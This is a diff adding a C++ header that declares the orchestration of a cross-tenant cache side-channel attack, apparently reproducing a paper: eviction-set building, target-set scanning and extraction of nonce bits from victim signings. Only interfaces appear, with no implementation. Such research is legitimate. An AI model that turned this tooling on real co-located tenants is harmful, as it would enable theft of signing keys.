@@ -1,0 +1,80 @@
+/**
+ * @file
+ * The end-to-end cross-tenant attack (paper Section 7.3): build
+ * eviction sets at the target page offset (Step 1), identify the
+ * target SF set with the PSD scanner (Step 2), then monitor it across
+ * repeated victim signings and extract nonce bits (Step 3).
+ */
+
+#ifndef LLCF_ATTACK_E2E_HH
+#define LLCF_ATTACK_E2E_HH
+
+#include "attack/extractor.hh"
+#include "attack/scanner.hh"
+
+namespace llcf {
+
+/** End-to-end attack parameters. */
+struct E2EParams
+{
+    PruneAlgo algo = PruneAlgo::BinS;
+    bool useFilter = true;
+    unsigned tracesPerVictim = 10; //!< signings monitored (paper: 10)
+    ScannerParams scanner{};
+};
+
+/** End-to-end attack outcome. */
+struct E2EResult
+{
+    bool evsetsBuilt = false;
+    bool targetFound = false;   //!< the scanner returned a set
+    bool targetCorrect = false; //!< ... and it is the true target set
+
+    Cycles buildTime = 0;
+    Cycles scanTime = 0;
+    Cycles extractTime = 0;
+
+    Cycles
+    totalTime() const
+    {
+        return buildTime + scanTime + extractTime;
+    }
+
+    /** Per-trace recovered fraction of nonce bits. */
+    SampleStats recoveredFraction;
+    /** Per-trace bit error rate among recovered bits. */
+    SampleStats bitErrorRate;
+};
+
+/**
+ * Orchestrates the full attack against one victim.
+ *
+ * The classifier and extractor are trained offline (on hosts the
+ * attacker controls) and passed in ready to use, as in the paper.
+ */
+class EndToEndAttack
+{
+  public:
+    EndToEndAttack(AttackSession &session, VictimService &victim,
+                   const TraceClassifier &classifier,
+                   const NonceExtractor &extractor,
+                   const E2EParams &params = {});
+
+    /**
+     * Run Steps 1-3.  @p pool provides the attacker's candidate
+     * pages.  The victim is triggered by the attack itself (the
+     * attacker can send requests to the victim service).
+     */
+    E2EResult run(const CandidatePool &pool);
+
+  private:
+    AttackSession &session_;
+    VictimService &victim_;
+    const TraceClassifier &classifier_;
+    const NonceExtractor &extractor_;
+    E2EParams params_;
+};
+
+} // namespace llcf
+
+#endif // LLCF_ATTACK_E2E_HH
